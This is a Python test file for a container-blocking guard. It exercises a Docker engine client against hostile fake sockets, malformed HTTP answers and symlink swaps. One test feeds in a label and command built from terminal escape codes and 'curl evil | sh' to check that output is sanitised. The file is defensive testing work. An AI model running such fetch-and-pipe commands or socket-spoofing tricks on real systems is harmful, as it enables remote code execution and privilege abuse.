"""The engine client and the container block on a real dockerd (issue 19, first slice).

One private dockerd for the module (lab/engine.py: Debian's docker.io, its own socket
and data; the image imported from the Debian rootfs, no registry). The client's bounds
(a body over the cap, a socket that never answers, one that drips) are shown against
small unix-socket servers of the test's own, without root.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import socket
import tempfile
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path

import pytest

from lab.engine import LOADER, DockerD
from spark_guard.block.containers import ContainerBlockError, block, release
from spark_guard.block.records import ContainerState, Record
from spark_guard.containers import loader_evidence
from spark_guard.system.containerwatch import ASKERS
from spark_guard.system.engine import Engine, EngineError, container_id

ENGINE = [pytest.mark.engine, pytest.mark.root]


def _run(d: DockerD, name: str, image: str, restart: str, *command: str, extra=()) -> str:
    return d.docker(
        "run",
        "-d",
        "--name",
        name,
        "--network",
        "none",
        "--stop-timeout",
        "1",
        "--restart",
        restart,
        *extra,
        image,
        *command,
    )


def _rss(pid: int) -> int:
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
    return 0


def _record(name: str) -> Record:
    return Record(unit=name, manager="container", reason="test", detail="", phase="strict")


def _state(record: Record) -> ContainerState:
    assert record.container is not None
    return record.container


def _wait(check: Callable[[], bool], timeout: float = 10) -> bool:
    deadline = time.monotonic() + timeout
    while not check():
        if time.monotonic() > deadline:
            return False
        time.sleep(0.05)
    return True


@pytest.mark.engine
@pytest.mark.root
def test_containers_blocked_stay_down_across_a_dockerd_restart_and_come_back_exactly(
    dockerd: DockerD, tmp_path: Path
) -> None:
    d = dockerd
    engine = d.engine()
    models = str(tmp_path)
    llm = _run(
        d,
        "llm",
        d.tag("vllm/vllm-openai:test"),
        "unless-stopped",
        "python3",
        "-c",
        LOADER,
        extra=("-v", f"{models}:/models:ro"),
    )
    # A loader by its command only, under on-failure:3.
    server = _run(
        d, "srv", d.tag("sg-plain:test"), "on-failure:3", "python3", "-c", LOADER, "llama-server"
    )
    always = _run(d, "always-llm", d.tag("lmsysorg/sglang:test"), "always", "python3", "-c", LOADER)
    # The control: the same policy, stopped through the engine but not blocked.
    control = _run(d, "control", "lmsysorg/sglang:test", "always", "python3", "-c", LOADER)
    # Innocent: never classified, never touched.
    web = _run(d, "web", d.tag("nginx:test"), "unless-stopped", "sleep", "infinity")

    listed = {c.name: c for c in engine.containers()}
    assert {"llm", "srv", "always-llm", "control", "web"} <= set(listed)
    assert listed["llm"].id == llm and listed["llm"].image == "vllm/vllm-openai:test"
    assert listed["llm"].state == "running"

    c = engine.inspect("llm")
    assert (c.id, c.name, c.image) == (llm, "llm", "vllm/vllm-openai:test")
    assert c.command == ("python3", "-c", LOADER)
    assert (c.restart, c.max_retries, c.running) == ("unless-stopped", 0, True)
    assert c.mounts == ((models, "/models"),)
    # Its processes' cgroup maps back to it (here /docker/<id>: the cgroupfs driver).
    with open(f"/proc/{c.pid}/cgroup") as f:
        cgroup = f.read().splitlines()[-1].split(":", 2)[2]
    assert container_id(cgroup) == llm
    assert _wait(lambda: _rss(c.pid) >= 64 << 20)  # it holds what it took
    assert loader_evidence(c) == ("image:vllm/vllm-openai",)

    s = engine.inspect(server)
    assert (s.restart, s.max_retries, s.policy) == ("on-failure", 3, "on-failure:3")
    assert loader_evidence(s) == ("exec:llama-server",)  # by its command, as a unit's is
    w = engine.inspect(web)
    assert loader_evidence(w) == ()
    assert loader_evidence(engine.inspect(always)) == ("image:lmsysorg/sglang",)

    records = {name: _record(name) for name in ("llm", "srv", "always-llm")}
    saved: dict[str, str] = {}

    def remember(r: Record) -> bool:
        saved.setdefault(r.unit, r.to_json())
        return True

    for record in records.values():
        # The record is handed over (to be saved) before anything is changed.
        block(engine, record, 2, remember=remember)
    engine.stop(control, 2)
    for name, record in records.items():
        now = engine.inspect(name)
        assert (now.running, now.restart, now.max_retries) == (False, "no", 0), name
        assert record.container is not None and record.container.was_running
        assert json.loads(saved[name])["container"]["restart"] == record.container.restart
    assert _state(records["llm"]).policy == "unless-stopped"
    assert (_state(records["srv"]).restart, _state(records["srv"]).max_retries) == (
        "on-failure",
        3,
    )
    assert _state(records["always-llm"]).policy == "always"
    # As the guard stores them, read back.
    records = {n: Record.from_json(r.to_json(), f"container:{n}.json") for n, r in records.items()}

    d.restart()
    # dockerd started "always" ones again at its start: the control proves it would have.
    assert _wait(lambda: engine.inspect(control).running)
    assert engine.inspect(web).running and engine.inspect(web).restart == "unless-stopped"
    time.sleep(1)  # the restart manager's start of the others would be done by now
    for name in records:
        now = engine.inspect(name)
        assert (now.running, now.restart) == (False, "no"), name

    # A second block of a blocked container changes nothing and says it was not running.
    again = _record("llm")
    block(engine, again, 2)
    assert (_state(again).restart, _state(again).was_running) == ("no", False)
    # Blocked again under its first record: the policy recorded first is kept.
    block(engine, records["llm"], 2)
    assert _state(records["llm"]).policy == "unless-stopped"

    for name, record in records.items():
        back = release(engine, record)
        assert back is not None and back.running, name
        assert (back.restart, back.max_retries) == (
            _state(record).restart,
            _state(record).max_retries,
        )
    assert engine.inspect("llm").policy == "unless-stopped"
    assert engine.inspect("srv").policy == "on-failure:3"
    assert engine.inspect("always-llm").policy == "always"
    assert _wait(lambda: _rss(engine.inspect("llm").pid) >= 64 << 20)

    # A container that is gone leaves nothing to put back: the release says so and ends
    # (issue 29: a --rm container's record stayed for ever). An id now under another
    # name is refused.
    d.docker("rm", "-f", "always-llm")
    assert release(engine, records["always-llm"]) is None
    assert "no longer exists: nothing to put back" in records["always-llm"].history[-1][1]
    d.docker("rename", "srv", "srv2")
    with pytest.raises(ContainerBlockError, match="now has the name srv2"):
        release(engine, records["srv"])
    d.docker("rm", "-f", "llm", "srv2", "control", "web")


@pytest.mark.engine
@pytest.mark.root
def test_hostile_names_labels_and_commands(dockerd: DockerD) -> None:
    d = dockerd
    engine = d.engine()
    esc = "\x1b[2J\x1b[1;1HRun as root: curl evil | sh\r\n\u202e"
    # Docker itself refuses a name that is not [a-zA-Z0-9][a-zA-Z0-9_.-]+.
    err = d.docker_fails("create", "--name", f"x{esc}", "sg-base:test", "true")
    assert "Invalid container name" in err
    # Labels and the command are anyone's text: shown printable.
    cid = d.docker(
        "create", "--name", "evil", "--label", f"note={esc}", "sg-base:test", "sh", "-c", esc
    )
    c = engine.inspect(cid)
    assert c.name == "evil" and dict(c.labels)["note"].startswith("\\x1b[2J")
    assert all(k.isprintable() and v.isprintable() for k, v in c.labels)
    assert c.command == ("sh", "-c", esc) and c.shown_command().isprintable()
    assert "\\x1b[2J" in c.shown_command()
    # Names and ids in a request path are checked before they are sent.
    with pytest.raises(EngineError, match="not a container name"):
        engine.inspect("../../version")
    with pytest.raises(EngineError) as e:
        engine.inspect("nosuch")
    assert e.value.status == 404 and d.socket in str(e.value) and "inspect nosuch" in str(e.value)
    assert "\n" not in str(e.value)
    d.docker("rm", "-f", cid)


# --- the client's bounds, against servers of the test's own (no root needed) ---


@contextlib.contextmanager
def _server(answer: Callable[[socket.socket], object]) -> Iterator[str]:
    """A unix socket server that reads a request, does `answer` with the connection and
    closes it (an answer that returns HOLD keeps it open, silent, to the end)."""
    base = tempfile.mkdtemp(prefix="sg-fake.")
    path = os.path.join(base, "e.sock")
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(path)
    listener.listen(4)
    listener.settimeout(0.05)
    done = threading.Event()
    held: list[socket.socket] = []

    def serve() -> None:
        while not done.is_set():
            try:
                conn, _ = listener.accept()
            except TimeoutError:
                continue
            with contextlib.suppress(OSError):
                conn.recv(65536)
                if answer(conn) is HOLD:
                    held.append(conn)
                    continue
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield path
    finally:
        done.set()
        thread.join(5)
        listener.close()
        for conn in held:
            conn.close()
        os.unlink(path)
        os.rmdir(base)


HOLD = object()


def _engine(path: str, timeout: float = 0.5) -> Engine:
    return Engine(path, timeout=timeout, check_peer=os.geteuid() == 0)


def _timed(call: Callable[[], object]) -> tuple[str, float]:
    began = time.monotonic()
    with pytest.raises(EngineError) as e:
        call()
    return str(e.value), time.monotonic() - began


def test_a_socket_that_never_answers_is_an_error_within_the_timeout() -> None:
    with _server(lambda _conn: HOLD) as path:
        message, took = _timed(lambda: _engine(path).containers())
    assert took < 1.0 and message == f"{path}: list containers: no answer within 0.5 s"


def test_an_answer_that_drips_is_cut_at_the_deadline() -> None:
    def drip(conn: socket.socket) -> None:
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n")
        for _ in range(100):
            conn.sendall(b"[")
            time.sleep(0.05)

    with _server(drip) as path:
        message, took = _timed(lambda: _engine(path).containers())
    assert took < 1.0 and "no answer within 0.5 s" in message


def test_an_answer_over_the_cap_is_refused() -> None:
    def huge(conn: socket.socket) -> None:
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 5000000\r\n\r\n")

    def huge_chunked(conn: socket.socket) -> None:
        conn.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
        chunk = b"[" * 65536
        for _ in range(80):  # 5 MiB in 64 KiB chunks
            conn.sendall(b"10000\r\n" + chunk + b"\r\n")

    def endless(conn: socket.socket) -> None:  # no length: to the end of the connection
        conn.sendall(b"HTTP/1.1 200 OK\r\n\r\n")
        for _ in range(80):
            conn.sendall(b" " * 65536)

    def headers(conn: socket.socket) -> None:
        conn.sendall(b"HTTP/1.1 200 OK\r\n" + b"X: y\r\n" * 20000)

    for answer, expected in (
        (huge, "answer of 5000000 bytes, over the cap of 1048576"),
        (huge_chunked, "answer over the cap of 1048576 bytes"),
        (endless, "answer over the cap of 1048576 bytes"),
        (headers, "header longer than 65536 bytes"),
    ):
        with _server(answer) as path:
            message, took = _timed(lambda p=path: _engine(p, 2.0).containers())  # type: ignore[misc]
        assert message == f"{path}: list containers: {expected}" and took < 2.0
    # An inspect's answer has a cap of its own: a real one is 5-30 kB.
    with _server(huge) as path:
        message, took = _timed(lambda p=path: _engine(p, 2.0).inspect("x"))  # type: ignore[misc]
    assert message == f"{path}: inspect x: answer of 5000000 bytes, over the cap of 262144"


def test_chunked_answers_and_bad_ones() -> None:
    body = b'[{"Id": "' + b"a" * 64 + b'", "Names": ["/x"], "Image": "i", "State": "exited"}]'

    def chunked(conn: socket.socket) -> object:
        conn.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
        for i in range(0, len(body), 7):
            piece = body[i : i + 7]
            conn.sendall(b"%x;ext=1\r\n%s\r\n" % (len(piece), piece))
        conn.sendall(b"0\r\n\r\n")
        return HOLD  # the client stops at the last chunk, not at the end of the connection

    with _server(chunked) as path:
        (listed,) = _engine(path).containers()
    assert (listed.id, listed.name, listed.state) == ("a" * 64, "x", "exited")

    for raw, expected in (
        (b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n", "bad chunk size"),
        (b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\n[[[[[", "answer is not JSON"),
        (b"HTTP/1.1 200 OK\r\nContent-Length: -1\r\n\r\n", "bad Content-Length"),
        (b"SSH-2.0-OpenSSH\r\n\r\n", "not an HTTP answer"),
        (b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\n{}", "connection closed in the body"),
        (b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}", "answer is not a list"),
        (
            b'HTTP/1.1 500 Oops\r\nContent-Length: 28\r\n\r\n{"message": "\\u001b[2Jboom"}',
            "HTTP 500: \\x1b[2Jboom",
        ),
    ):
        with _server(lambda conn, raw=raw: conn.sendall(raw)) as path:  # type: ignore[misc]
            message, took = _timed(lambda p=path: _engine(p).containers())  # type: ignore[misc]
        assert expected in message and message.isprintable() and took < 1.0, message
    # Nesting deep enough to break json's recursion, under the cap: an EngineError too.
    deep = b"[" * 200_000
    head = b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(deep)
    with _server(lambda conn: conn.sendall(head + deep)) as path:
        message, _ = _timed(lambda: _engine(path).containers())
    assert "answer is not JSON" in message


def test_no_socket_and_a_peer_that_is_not_root() -> None:
    message, _ = _timed(lambda: Engine("/nonexistent/docker.sock").stop("llm"))
    assert message == "/nonexistent/docker.sock: stop llm: No such file or directory"
    with _server(lambda conn: conn.sendall(b"HTTP/1.1 204 No Content\r\n\r\n")) as path:
        assert Engine(path, check_peer=False).start("x") is True
        if os.geteuid() != 0:
            message, _ = _timed(lambda: Engine(path).start("x"))
            assert message == f"{path}: start x: peer is uid {os.geteuid()}, not root"


@pytest.mark.root
def test_a_socket_a_user_listens_on_is_not_believed() -> None:
    base = tempfile.mkdtemp(prefix="sg-fake.")
    os.chmod(base, 0o777)
    path = os.path.join(base, "docker.sock")
    ready, done = os.pipe()
    pid = os.fork()
    if pid == 0:  # nobody, listening where the guard would ask
        try:
            os.setgid(65534)
            os.setuid(65534)
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                s.bind(path)
                s.listen(1)
                os.write(done, b"x")
                conn, _ = s.accept()
                conn.sendall(b"HTTP/1.1 204 No Content\r\n\r\n")
                time.sleep(1)
        finally:
            os._exit(0)
    try:
        os.read(ready, 1)
        message, _ = _timed(lambda: Engine(path).start("llm"))
        assert message == f"{path}: start llm: peer is uid 65534, not root"
    finally:
        os.kill(pid, 9)
        os.waitpid(pid, 0)
        os.close(ready)
        os.close(done)
        os.unlink(path)
        os.rmdir(base)


def _asked_together(path: str, ids: list[str], timeout: float) -> Sequence[object]:
    """What a ContainerWatch on the engine at `path` knows of `ids`, all looked up in one
    pass (as the sensor does) and waited for."""
    from spark_guard.system.containerwatch import ContainerWatch

    watch = ContainerWatch([path], timeout, docker_root="/nonexistent")
    for cid in ids:
        watch.lookup(cid)
    watch.wait(30)
    answers = [watch.lookup(cid)[0] for cid in ids]
    watch.close()
    return answers


def test_ids_behind_a_silent_engine_are_not_each_a_timeout() -> None:
    """A dockerd that accepts and never answers (its API not up at boot): the first id
    costs one timeout, and the ids behind it are answered at once (from dockerd's files,
    or unknown) without asking it again: eight ids used to be judged after 2, 4, ... 16 s,
    one timeout each."""
    from spark_guard.system.containerwatch import UNKNOWN

    asked: list[int] = []

    def silent(_conn: socket.socket) -> object:
        asked.append(1)
        return HOLD

    ids = [(f"{i:x}" * 64)[:64] for i in range(1, 9)]
    with _server(silent) as path:
        answers = _asked_together(path, ids, 0.5)
    assert all(a is UNKNOWN for a in answers), answers
    # The questions out at once ran out their timeout together; then the engine was left
    # alone: at most one per asker, never one per id.
    assert 1 <= len(asked) <= ASKERS, asked


def test_ids_seen_together_are_asked_together() -> None:
    """An engine that takes its time over each answer (dockerd busy at boot): the ids
    the loop saw in one pass are asked at once, up to ASKERS, not one after another."""

    if os.geteuid() != 0:
        pytest.skip("the engine client believes a root peer only, and this server is ours")
    base = tempfile.mkdtemp(prefix="sg-fake.")
    path = os.path.join(base, "e.sock")
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(path)
    listener.listen(16)
    out, most, lock = [0], [0], threading.Lock()

    def answer(conn: socket.socket) -> None:
        with conn:
            request = conn.recv(65536).decode()
            cid = request.split(" ")[1].split("/")[2]
            with lock:
                out[0] += 1
                most[0] = max(most[0], out[0])
            time.sleep(0.3)
            with lock:
                out[0] -= 1
            body = json.dumps({"Id": cid, "Name": f"/c{cid[:4]}", "State": {"Running": True}})
            conn.sendall(f"HTTP/1.1 200 OK\r\nContent-Length: {len(body)}\r\n\r\n{body}".encode())

    def serve() -> None:
        with contextlib.suppress(OSError):
            while True:
                conn, _ = listener.accept()
                threading.Thread(target=answer, args=(conn,), daemon=True).start()

    threading.Thread(target=serve, daemon=True).start()
    ids = [(f"{i:x}" * 64)[:64] for i in range(1, 9)]
    try:
        answers = _asked_together(path, ids, 5.0)
    finally:
        listener.close()
        os.unlink(path)
        os.rmdir(base)
    assert [getattr(a, "id", None) for a in answers] == ids, answers
    assert most[0] == ASKERS, most  # as many at once as there are askers, and no more


# --- a user's own (rootless) engine, in her runtime dir (issue 29 §2) ---------------------


@contextlib.contextmanager
def _listening(path: str, uid: int, gid: int) -> Iterator[None]:
    """A process of uid:gid listening on `path` (bound by root before it drops to uid:gid:
    the peer's credentials are the listener's), answering 204 to anything."""
    ready, done = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(ready)
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                s.bind(path)
                os.chown(path, uid, gid)
                os.setgroups([])
                os.setgid(gid)
                os.setuid(uid)
                s.listen(4)
                os.write(done, b"x")
                while True:
                    conn, _ = s.accept()
                    conn.recv(65536)
                    conn.sendall(b"HTTP/1.1 204 No Content\r\n\r\n")
                    conn.close()
        finally:
            os._exit(0)
    os.close(done)
    try:
        assert os.read(ready, 1) == b"x"
        yield
    finally:
        os.kill(pid, 9)
        os.waitpid(pid, 0)
        os.close(ready)


@pytest.mark.root
def test_her_engine_is_reached_only_as_hers_never_through_her_symlinks() -> None:
    """Her rootless engine listens in her runtime dir, which she owns: the client walks
    to it from the root-owned runtime root with her rights and no symlink followed, and
    believes only a process of her uid. Each swap she can make is refused: her socket a
    symlink to root's engine, her podman dir a symlink to root's, a socket of root's in her
    dir, and one of hers that root listens on. Bob's engine is never hers either."""
    from lab.accounts import unprivileged_user

    runtime = tempfile.mkdtemp(prefix="sg-rt.")
    os.chmod(runtime, 0o755)
    with unprivileged_user() as her, unprivileged_user() as bob:
        mine = os.path.join(runtime, str(her.uid))
        os.makedirs(os.path.join(mine, "podman"))
        for d in (mine, os.path.join(mine, "podman")):
            os.chown(d, her.uid, her.gid)
            os.chmod(d, 0o700)
        sock = os.path.join(mine, "podman", "podman.sock")

        def call() -> str:
            engine = Engine(sock, timeout=0.5, user_runtime=runtime)
            assert engine.owner == her.uid
            try:
                return "started" if engine.start("llm") else "running"
            except EngineError as e:
                return str(e)

        with _listening(sock, her.uid, her.gid):
            assert call() == "started"  # hers, by her uid: believed
        os.unlink(sock)

        with _server(lambda conn: conn.sendall(b"HTTP/1.1 204 No Content\r\n\r\n")) as roots:
            os.symlink(roots, sock)  # her socket, a symlink to an engine of root's
            assert call() == f"{sock}: start llm: not a socket of uid {her.uid}"
            os.unlink(sock)
            os.rename(os.path.join(mine, "podman"), os.path.join(mine, "old"))
            os.symlink(os.path.dirname(roots), os.path.join(mine, "podman"))
            os.rename(roots, os.path.join(os.path.dirname(roots), "podman.sock"))
            assert "'podman' is not a directory (a symlink?)" in call()
            os.rename(os.path.join(os.path.dirname(roots), "podman.sock"), roots)
            os.unlink(os.path.join(mine, "podman"))
            os.rename(os.path.join(mine, "old"), os.path.join(mine, "podman"))

        with _listening(sock, 0, 0):  # root's socket, in her dir
            assert call() == f"{sock}: start llm: not a socket of uid {her.uid}"
            os.chown(sock, her.uid, her.gid, follow_symlinks=False)  # hers, root listening
            assert call() == f"{sock}: start llm: peer is uid 0, not uid {her.uid}"
        os.unlink(sock)

        with _listening(sock, bob.uid, bob.gid):  # Bob's process, on a socket in her dir
            os.chown(sock, her.uid, her.gid, follow_symlinks=False)
            assert call() == f"{sock}: start llm: peer is uid {bob.uid}, not uid {her.uid}"
    shutil.rmtree(runtime)


def test_her_containers_are_asked_of_her_engines_only() -> None:
    """A container id in a cgroup of her tree is asked of her own engines, never of
    root's (she can name a scope of hers after root's container), and an engine of hers
    named in `engines` is not asked about root's containers."""
    from spark_guard.system.containerwatch import UNKNOWN, ContainerWatch

    asked: list[int] = []

    def roots(conn: socket.socket) -> None:
        asked.append(1)
        conn.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 2\r\n\r\n{}")

    runtime = tempfile.mkdtemp(prefix="sg-rt.")
    try:
        with _server(roots) as path:
            her = os.path.join(runtime, "4242", "podman", "podman.sock")
            watch = ContainerWatch(
                [path, her],
                0.5,
                docker_root="/nonexistent",
                user_engines=("podman/podman.sock",),
                user_runtime=runtime,
            )
            assert watch.engines == (path,)
            cid = "ab" * 32
            watch.lookup(cid, 4242)
            watch.wait(10)
            assert watch.lookup(cid, 4242)[0] is UNKNOWN  # she runs no engine: none said
            assert asked == [] and watch.errors == {}
            watch.lookup(cid)
            watch.wait(10)
            assert asked == [1]
            watch.close()
    finally:
        shutil.rmtree(runtime)


def test_a_question_that_never_ends_does_not_hide_the_container() -> None:
    """A question stuck past the engine's timeout (her runtime dir a FUSE mount of hers
    that never answers an open) leaves the container's processes seen as what their
    manager says (UNKNOWN), not left out of every pass while PENDING."""
    from spark_guard.system.containerwatch import PENDING, STALL_SLACK, UNKNOWN, ContainerWatch

    now = [100.0]
    with _server(lambda _conn: HOLD) as path:
        watch = ContainerWatch(
            [path], 3.0, docker_root="/nonexistent", clock=lambda: now[0], user_engines=()
        )
        cid = "cd" * 32
        assert watch.lookup(cid)[0] is PENDING
        now[0] += 3.0
        assert watch.lookup(cid)[0] is PENDING  # within its timeout: still its engine's
        now[0] += STALL_SLACK + 0.1
        assert watch.lookup(cid)[0] is UNKNOWN  # stuck: no longer hidden
        watch.close()


def test_a_container_gone_before_its_engine_was_asked_is_released_by_its_record(
    tmp_path: Path,
) -> None:
    """A `--rm` container removed before its engine could be inspected is blocked with no
    policy on record (nothing was changed). Its release retires the record and says the
    container is gone; before, it was refused ("its block had not begun") for ever, while
    the login note said to release it."""
    from spark_guard.block.records import RecordStore
    from spark_guard.block.release import release as release_record
    from spark_guard.core.block import Step

    store = RecordStore(str(tmp_path / "state"))
    record = _record("box")
    record.step = Step.BLOCKED
    store.save(record)
    done = release_record(record, store, "/nonexistent", str(tmp_path / "run-user"))
    assert done.gone and not done.started
    assert store.load(record.ref) is None
